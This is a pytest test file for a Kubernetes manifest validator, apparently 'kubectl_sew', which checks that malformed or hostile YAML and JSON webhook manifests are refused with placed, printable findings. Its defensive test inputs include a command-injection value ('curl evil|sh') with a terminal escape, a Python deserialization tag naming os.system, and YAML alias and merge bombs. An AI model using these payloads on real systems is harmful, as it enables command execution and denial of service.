"""Manifests are read, each problem has its place, and no text is too hostile to be refused."""

import json

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from kubectl_sew.resource import load_manifests, load_many
from kubectl_sew.resource.documents import DEEPEST, LARGEST_DOCUMENT, LARGEST_FILE, MOST_VALUES, read_documents
from kubectl_sew.resource.scalars import read_plain
from kubectl_sew.resource.writing import to_yaml
from tests.fuzz.alphabet import PIECES

GOOD = """\
apiVersion: projectcalico.org/v3
kind: SecurityEventWebhook
metadata:
  name: hook
spec:
  consumer: Slack
  state: Enabled
  query: type=waf
  config:
    - name: url
      value: https://hooks.slack.com/services/T/B/X
"""


def placed(text: str | bytes, source: str = "f.yaml") -> list[tuple[str, int, int]]:
    return [(finding.code, finding.line, finding.column) for finding in load_manifests(text, source).findings]


def test_a_good_webhook_has_no_finding_and_is_read_whole() -> None:
    manifests = load_manifests(GOOD, "f.yaml")
    assert manifests.findings == ()
    webhook = manifests.good["hook"]
    assert (webhook.consumer, webhook.state.value, webhook.query) == ("Slack", "Enabled", "type=waf")
    assert webhook.config[0].value == "https://hooks.slack.com/services/T/B/X"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("projectcalico.org/v3", "projectcalico.org/v2", ("SEW009", 1, 13)),
        ("  name: hook", "  name: My_Hook", ("SEW010", 4, 9)),
        ("  name: hook", "  name: a..b", ("SEW010", 4, 9)),
        ("  name: hook", "  labels: {}", ("SEW008", 4, 3)),
        ("  name: hook", "  name: hook\n  annotations: [a]", ("SEW006", 5, 16)),
        ("  name: hook", "  name: hook\n  annotations: {a: 1}", ("SEW006", 5, 20)),
        ("  name: hook", "  name: hook\n  annotations: {webhooks.projectcalico.org/labels: ab}", ("SEW015", 5, 52)),
        ("  name: hook", "  name: hook\n  name: other", ("SEW004", 5, 3)),
        ("  consumer: Slack\n", "", ("SEW008", 6, 3)),
        ("consumer: Slack", "consumer:", ("SEW008", 6, 12)),
        ("consumer: Slack", "consumer: 5", ("SEW006", 6, 13)),
        ("state: Enabled", "state: enabled", ("SEW012", 7, 10)),
        ("state: Enabled", "state: on", ("SEW012", 7, 10)),
        ("query: type=waf", "query: ' '", ("SEW008", 8, 10)),
        ("query: type=waf", "query: [a]", ("SEW006", 8, 10)),
        ("query: type=waf", "query: a=b\n  colour: red", ("SEW007", 9, 3)),
        ("spec:", "extra: 1\nspec:", ("SEW007", 5, 1)),
        ("- name: url", "- {name: b, value: ''}\n    - nam: url\n      name: url", ("SEW007", 11, 7)),
        ("- name: url", "- name: ''", ("SEW008", 10, 13)),
        ("- name: url", "- name: url\n      value: a\n    - name: url", ("SEW014", 12, 13)),
        ("value: https", "valueFrom: {}\n      value: https", ("SEW013", 10, 7)),
        ("value: https://hooks.slack.com/services/T/B/X", "optional: x", ("SEW013", 10, 7)),
        (
            "value: https://hooks.slack.com/services/T/B/X",
            "valueFrom: {secretKeyRef: {name: a, key: b}, configMapKeyRef: {name: a, key: b}}",
            ("SEW013", 11, 18),
        ),
        (
            "value: https://hooks.slack.com/services/T/B/X",
            "valueFrom: {secretKeyRef: {name: a, key: b, optional: 'yes'}}",
            ("SEW006", 11, 61),
        ),
        (
            "value: https://hooks.slack.com/services/T/B/X",
            "valueFrom: {secretKeyRef: {name: a}}",
            ("SEW008", 11, 33),
        ),
        ("value: https://hooks.slack.com/services/T/B/X", "value: 8080", ("SEW006", 11, 14)),
        ("config:\n    - name: url\n      value:", "config:\n      url:", ("SEW006", 10, 7)),
    ],
)
def test_each_wrong_field_is_found_at_its_place_and_refuses_the_webhook(
    old: str, new: str, expected: tuple[str, int, int]
) -> None:
    assert old in GOOD
    text = GOOD.replace(old, new, 1)
    assert expected in placed(text)
    manifests = load_manifests(text, "f.yaml")
    assert (manifests.good == {}) is (expected[0] != "SEW015")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"\xff\xfe", ("SEW002", 1, 1)),
        (b"a: 1\nb: \xff", ("SEW002", 2, 4)),
        ("a: 1\nb: \x00", ("SEW002", 2, 4)),
        ("a: \ud800", ("SEW002", 1, 4)),
        ("\ta: 1", ("SEW001", 1, 1)),
        ("a: [1", ("SEW001", 2, 1)),
        ("a: b: c", ("SEW001", 1, 5)),
        ("{a: 1}}", ("SEW001", 1, 7)),
        ("a: *x", ("SEW001", 1, 4)),
        ("a: &x [*x]", ("SEW001", 1, 8)),
        ("? [a]\n: 1", ("SEW001", 1, 3)),
        ("a: !!python/object:os.system x", ("SEW001", 1, 4)),
        ("- a\n- b", ("SEW005", 1, 1)),
        ("just words", ("SEW005", 1, 1)),
        ("a: 1", ("SEW005", 1, 1)),
        ("kind: 5", ("SEW005", 1, 1)),
        ("a: " + "[" * (DEEPEST + 1), ("SEW003", 1, 4 + DEEPEST - 1)),
        ("[" * 100, ("SEW003", 1, DEEPEST + 1)),
        ("[" * 100_000, ("SEW001", 1, 1001)),
        ("a: [" + "1," * MOST_VALUES + "1]", ("SEW003", 1, 5 + 2 * MOST_VALUES)),
        ("x" * (LARGEST_DOCUMENT + 1), ("SEW003", 1, 1)),
        ("---\na\n---\n" + "x" * (LARGEST_DOCUMENT + 1), ("SEW003", 3, 1)),
        (b"x" * (LARGEST_FILE + 1), ("SEW003", 1, 1)),
        ("a: 1\n---\n" * 10_001, ("SEW003", 1, 1)),
    ],
)
def test_text_that_is_no_manifest_is_refused_at_its_place(text: str | bytes, expected: tuple[str, int, int]) -> None:
    assert expected in placed(text)


def test_aliases_are_expanded_but_never_into_a_bomb() -> None:
    shared = GOOD.replace("name: hook", "name: &n hook\n  annotations: {a: *n}")
    assert load_manifests(shared, "f").good["hook"].annotations == {"a": "hook"}
    bomb = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    assert [finding[0] for finding in placed(bomb)] == ["SEW003"]
    chain = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}]\n" for n in range(1, 3_000))
    assert [finding[0] for finding in placed(chain)] == ["SEW003"]


@pytest.mark.parametrize(
    "junk", ["x" * (10 << 20), "[" * (10 << 20), "- " * (5 << 20), "a: b\n---\n" * (1 << 20), "\n" * (10 << 20)]
)
def test_ten_megabytes_of_junk_are_refused(junk: str) -> None:
    assert [finding.code for finding in load_manifests(junk, "f").findings] == ["SEW003"]


def test_a_document_that_cannot_be_read_does_not_hide_the_next() -> None:
    manifests = load_manifests(f"a: [1\n---\n{GOOD}---\nb: ]\n", "f.yaml")
    assert list(manifests.good) == ["hook"]
    assert [(finding.code, finding.line) for finding in manifests.findings] == [("SEW001", 2), ("SEW001", 15)]


def test_all_problems_of_a_webhook_are_found_at_once() -> None:
    text = (
        GOOD.replace("name: hook", "name: A").replace("state: Enabled", "state: x").replace("query: type=waf", "q: 1")
    )
    assert [finding[0] for finding in placed(text)] == ["SEW010", "SEW008", "SEW012", "SEW007"]


def test_a_finding_is_safe_to_print_and_short_whatever_the_manifest_holds() -> None:
    evil = '"\\e[31mred\\nline' + "x" * 900 + '"'
    text = GOOD
    for word in (" hook", " Enabled", " projectcalico.org/v3"):
        text = text.replace(word, f" {evil}")
    text = text.replace("  query", f"  ? {evil}\n  : 1\n  query").replace(
        "metadata:", f"metadata:\n  labels: {{{evil}: 1}}"
    )
    findings = load_manifests(text, "f").findings
    assert {"SEW006", "SEW007", "SEW009", "SEW010", "SEW012"} == {finding.code for finding in findings}
    for finding in findings:
        assert str(finding).isprintable()
        assert len(str(finding)) < 1_200


def test_lists_and_json_are_read_like_single_documents() -> None:
    webhook = yaml.safe_load(GOOD)
    webhook["metadata"]["annotations"] = {"emoji": "\N{PILE OF POO}"}
    as_list = json.dumps({"apiVersion": "v1", "kind": "List", "items": [webhook, {"kind": "Pod"}]}, indent="\t")
    manifests = load_manifests(as_list, "f.json")
    assert manifests.findings == ()
    assert manifests.good["hook"].annotations == {"emoji": "\N{PILE OF POO}"}
    wrong = as_list.replace('"Enabled"', '"Off"')
    assert [(finding.code, finding.resource) for finding in load_manifests(wrong, "f.json").findings] == [
        ("SEW012", "hook")
    ]


@pytest.mark.parametrize("text", ["", "---\n", "# nothing\n", "kind: Pod\nspec: 1\n", "\ufeff", "---\n---\n...\n"])
def test_what_holds_no_webhook_has_no_finding(text: str) -> None:
    assert load_manifests(text, "f").findings == ()


def test_two_webhooks_of_one_name_are_both_refused_naming_each_other() -> None:
    other = GOOD.replace("name: hook", "name: other")
    manifests = load_many([("a.yaml", GOOD), ("b.yaml", f"{other}---\n{GOOD}")])
    assert list(manifests.good) == ["other"]
    assert [(finding.code, finding.place, finding.hint) for finding in manifests.findings] == [
        ("SEW011", "a.yaml:4:9", "the other: b.yaml:13"),
        ("SEW011", "b.yaml:16:9", "the other: a.yaml:1"),
    ]


def test_secrets_and_config_maps_count_with_the_secrets_namespace_or_none() -> None:
    text = """
{kind: Secret, metadata: {name: a, namespace: tigera-intrusion-detection}, data: {k: aGk=, l: aGk=}, stringData: {l: x}}
---
{kind: Secret, metadata: {name: b}, stringData: {k: v}}
---
{kind: Secret, metadata: {name: c, namespace: default}, stringData: {k: v}}
---
{kind: ConfigMap, metadata: {name: a}, data: {k: v}, binaryData: {b: /w==}}
"""
    manifests = load_manifests(text, "f")
    assert manifests.secrets == {"a": {"k": b"hi", "l": b"x"}, "b": {"k": b"v"}}
    assert manifests.config_maps == {"a": {"k": b"v", "b": b"\xff"}}
    assert manifests.findings == ()
    assert list(load_manifests(text, "f", secrets_namespace="default").secrets) == ["b", "c"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("{kind: Secret, metadata: {name: a}, data: {k: canary}}", ("SEW043", 1, 47)),
        ("{kind: Secret, metadata: {name: a}, stringData: {k: 5}}", ("SEW043", 1, 53)),
        ("{kind: Secret, metadata: {name: a}, data: [canary]}", ("SEW043", 1, 43)),
        ("{kind: Secret, stringData: {k: canary}}", ("SEW043", 1, 1)),
        ("{kind: Secret, metadata: {name: a}, stringData: {k: canary, k: v}}", ("SEW004", 1, 61)),
        (
            "{kind: ConfigMap, metadata: {name: a}}\n---\n{kind: ConfigMap, metadata: {name: a}, data: {k: canary}}",
            ("SEW044", 3, 1),
        ),
    ],
)
def test_a_broken_secret_is_found_and_its_value_never_shown(text: str, expected: tuple[str, int, int]) -> None:
    assert placed(text) == [expected]
    manifests = load_manifests(text, "f")
    assert "canary" not in repr(manifests)
    assert "canary" not in str([str(finding) for finding in manifests.findings])


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("", None),
        ("~", None),
        ("null", None),
        ("y", True),
        ("off", False),
        ("True", True),
        ("017", 15),
        ("0o17", 15),
        ("0x1F", 31),
        ("-1_000", -1000),
        ("0x", "0x"),
        ("1e3", 1000.0),
        (".5", 0.5),
        ("-.inf", float("-inf")),
        ("+.Inf", float("inf")),
        ("-.INF", float("-inf")),
        (".inF", ".inF"),
        ("0X1F", 31),
        ("0B11", 3),
        ("0b-1", -1),
        ("-0O17", -15),
        ("1_000.5", 1000.5),
        ("1_0e1", 100.0),
        (".1_0", 0.1),
        ("._1", "._1"),
        ("08", 8.0),
        ("0_8", 8.0),
        ("0912345678", 912345678.0),
        ("1e400", "1e400"),
        ("_1", "_1"),
        ("18446744073709551615", 2**64 - 1),
        ("18446744073709551616", 2.0**64),
        ("2026-01-02", "2026-01-02"),
        ("12:30:45", "12:30:45"),
        ("1" * 100, float("1" * 100)),
        ("1" * 2_000, "1" * 2_000),
        ("1.2.3.4", "1.2.3.4"),
        ("yes please", "yes please"),
    ],
)
def test_plain_scalars_are_read_as_kubectl_reads_them(text: str, value: object) -> None:
    read = read_plain(text)
    assert (type(read), read) == (type(value), value)


@pytest.mark.parametrize("scalar", [".NaN", ".nan", ".Inf", "-.INF", "+.inf"])
def test_a_number_that_json_cannot_hold_is_a_finding_and_nothing_worse(scalar: str) -> None:
    assert placed(f"service: {{limit: {scalar}}}") == [("SEW005", 1, 1)]
    text = GOOD.replace("metadata:", f"metadata:\n  generation: {scalar}", 1)
    assert [code for code, *_ in placed(text)] == ["SEW006"]


SCALARS = st.lists(st.sampled_from([piece for piece in PIECES if piece != "\ud83d"]), max_size=5).map("".join)


@given(SCALARS)
@example("0912345678")
@example("1e5")
@example("y")
def test_text_that_is_written_is_read_back_as_that_text_and_steers_no_terminal(text: str) -> None:
    written = to_yaml({"value": text})
    read, findings = read_documents(written)
    assert ([document.plain() for document in read], findings) == ([{"value": text}], [])
    assert written.replace("\n", "").isprintable()


@given(st.binary(max_size=300))
def test_random_bytes_never_raise(text: bytes) -> None:
    load_manifests(text, "f")


@given(st.text("{}[]:,-?&*!|>'\"%@` \n\t#ab0\\~.", max_size=80))
def test_random_punctuation_never_raises(text: str) -> None:
    load_manifests(text, "f")


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
_PATHS = [
    ("metadata",),
    ("metadata", "name"),
    ("metadata", "annotations"),
    ("spec",),
    ("spec", "query"),
    ("spec", "config"),
    ("spec", "config", 0),
    ("spec", "config", 0, "value"),
    ("spec", "config", 0, "valueFrom"),
    ("status",),
    ("kind",),
    ("apiVersion",),
]


@given(st.sampled_from(_PATHS), _VALUES)
def test_any_value_at_any_place_is_judged_and_never_raises(path: tuple[str | int, ...], value: object) -> None:
    webhook = yaml.safe_load(GOOD)
    target = webhook
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    for text in (yaml.safe_dump(webhook), json.dumps(webhook)):
        for finding in load_manifests(text, "f").findings:
            assert finding.line >= 1
            assert finding.column >= 1


@pytest.mark.parametrize(
    ("query", "hint"),
    [
        ("! type = waf", "write `query: 'NOT type = waf'`"),
        ("!type = waf", "write `query: 'NOT type = waf'`"),
        ("! 'name = \"x\"'", "write `query: 'NOT name = \"x\"'`"),
        ("!not type = waf", "write `query: 'NOT type = waf'`"),
        ("!NOT |\n    type = waf", "write `query: 'NOT type = waf'`"),
        ("! |\n    type = waf\n    AND host = a", "write NOT for the `!`, and put the whole query in quotes"),
        ("!!str type = waf", "leave it out"),
    ],
)
def test_a_tag_before_a_query_is_an_error_since_yaml_would_drop_it(query: str, hint: str) -> None:
    (finding,) = load_manifests(GOOD.replace("type=waf", query), "f").findings
    assert (finding.code, finding.severity, finding.hint, finding.line, finding.resource) == (
        "SEW001",
        "error",
        hint,
        8,
        "hook",
    )


@pytest.mark.parametrize("half", ["\\ud83d", "\\udcff", "\\ud83d\\ude00 \\uDE00"])
def test_half_of_a_pair_in_json_is_an_error_that_says_so(half: str) -> None:
    (finding,) = load_manifests(f'{{"kind": "SecurityEventWebhook", "x": "{half}"}}', "f").findings
    assert (finding.code, finding.line) == ("SEW001", 1)
    assert finding.hint == "one of `\\ud800` to `\\udfff` alone is half of a character: write text in UTF-8"


def test_a_quoted_query_may_begin_with_an_exclamation_mark() -> None:
    assert placed(GOOD.replace("type=waf", "'! type = waf'")) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("{a: &a {p: 1, q: 2}, m: {<<: *a, p: 5}}", {"p": 5, "q": 2}),
        ("{a: &a {p: 1, q: 2}, m: {p: 5, <<: *a}}", {"p": 1, "q": 2}),
        ("{a: &a {p: 1, q: 2}, b: &b {p: 9, r: 3}, m: {<<: [*a, *b]}}", {"p": 1, "q": 2, "r": 3}),
        ("{a: &a {p: 1}, m: {'<<': *a}}", {"<<": {"p": 1}}),
    ],
)
def test_maps_are_merged_as_kubectl_merges_them(text: str, expected: object) -> None:
    documents, findings = read_documents(text)
    assert (documents[0].plain()["m"], [*findings, *documents[0].all_problems()]) == (expected, [])


def test_only_maps_can_be_merged() -> None:
    assert [(finding.code, finding.line, finding.column) for finding in read_documents("a: {<<: 3}")[1]] == [
        ("SEW001", 1, 9)
    ]


def test_json_objects_in_a_row_are_read_one_by_one_each_at_its_place() -> None:
    one = json.dumps({"kind": "Secret", "metadata": {"name": "a"}}, indent=2)
    documents, findings = read_documents(f"{one}\n  {one}{one}\n")
    assert [(document.line, document.column, document.plain()["kind"]) for document in documents] == [
        (1, 1, "Secret"),
        (7, 3, "Secret"),
        (12, 2, "Secret"),
    ]
    assert findings == []


def test_merging_does_not_expand_without_bound() -> None:
    levels = "".join(f"a{at}: &a{at} {{b: [*a{at - 1}, *a{at - 1}], <<: *a{at - 1}}}\n" for at in range(1, 60))
    _, findings = read_documents(f"a0: &a0 {{x: 1}}\n{levels}")
    assert [finding.code for finding in findings] == ["SEW003"]


@pytest.mark.parametrize("kind", ["secretKeyRef", "configMapKeyRef"])
@pytest.mark.parametrize(
    ("name", "key", "column"),
    [
        ("x;curl evil|sh;#\x1b]0;", "key", ("name",)),
        ("Slack", "key", ("name",)),
        ("slack", "k y", ("key",)),
        ("slack", "..", ("key",)),
        ("slack", "a" * 254, ("key",)),
        ("slack.hooks", "tls.key_1-A", ()),
    ],
)
def test_a_reference_names_what_kubernetes_can_have(kind: str, name: str, key: str, column: tuple[str, ...]) -> None:
    source = json.dumps({kind: {"name": name, "key": key}})
    text = GOOD.replace("value: https://hooks.slack.com/services/T/B/X", f"valueFrom: {source}")
    findings = load_manifests(text, "f").findings
    assert [finding.code for finding in findings] == ["SEW045"] * len(column)
    assert all(finding.is_error and str(finding).isprintable() for finding in findings)


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("a:\n\tb: 1\n", "indent with spaces, not tabs"),
        ("kind: X\n---\nspec: {{ .Values.x }}\n", "this looks like a Helm template: `helm template … |"),
        ("{{- if .Values.on }}\na: b\n{{- end }}\n", "this looks like a Helm template: `helm template … |"),
        ("a: [", "check indentation, quotes and colons"),
        (GOOD.replace("Enabled", "on"), "YAML reads `on`"),
        (GOOD.replace("Enabled", "enable"), "did you mean `Enabled`?"),
    ],
)
def test_the_hint_names_the_usual_reason(text: str, hint: str) -> None:
    (finding,) = [finding for finding in load_manifests(text, "f").findings if finding.is_error]
    assert finding.hint.startswith(hint)
